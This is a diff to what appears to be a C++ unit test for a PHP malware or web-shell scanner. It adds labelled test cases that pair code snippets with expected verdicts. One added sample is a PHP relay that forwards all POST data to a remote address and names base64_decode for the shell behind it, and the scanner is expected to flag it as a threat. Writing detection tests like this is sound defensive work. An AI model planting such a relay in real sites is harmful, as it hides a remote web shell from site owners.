@@ -269,6 +269,13 @@ TEST_F(DefaultRules, TechniqueVerdicts) {
        "<?php extract(parse_ini_file('tool.ini')); system($cmd);", Verdict::Clean},
       {"command in a loop over values the scan cannot know",
        "<?php foreach (load_jobs() as $job) { exec($job); }", Verdict::Clean},
+      {"a relay telling the shell behind it which decoder to call",
+       "<?php $u = 'http://203.0.113.5/up/s.php?&k=base64_decode';\n"
+       "$c = stream_context_create(array('http' => array('method' => 'POST', 'content' => http_build_query($_POST))));\n"
+       "echo file_get_contents($u, false, $c);",
+       Verdict::Threat},
+      {"an API call naming the encoding it wants back",
+       "<?php echo file_get_contents('https://api.example.com/v1/item?id=7&encoding=base64');", Verdict::Clean},
       {"fetch from a request host", "<?php echo file_get_contents('http://' . $_GET['h'] . '/x');",
        Verdict::Suspicious},
       {"downloaded code beside eval",
